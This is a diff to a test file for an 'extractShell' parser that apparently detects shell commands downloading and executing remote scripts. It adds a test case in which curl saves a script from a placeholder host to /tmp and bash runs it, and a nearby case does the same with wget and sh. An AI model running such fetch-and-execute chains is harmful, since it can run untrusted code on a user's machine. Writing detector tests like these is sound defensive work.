@@ -170,6 +170,14 @@ describe('extractShell', () => {
       'shell:download-exec https://e.example/i',
     ],
     [
+      'curl -o /abs/path URL && bash /abs/path',
+      [
+        cmd(['curl', '-fsSL', '-o', '/tmp/setup.sh', 'https://e.example/s']),
+        cmd(['bash', '/tmp/setup.sh'], { dynamic: true }),
+      ],
+      'shell:download-exec https://e.example/s',
+    ],
+    [
       'wget URL && sh ./install.sh',
       [cmd(['wget', 'https://e.example/dl/install.sh']), cmd(['sh', './install.sh'], { dynamic: true })],
       'shell:download-exec https://e.example/dl/install.sh',
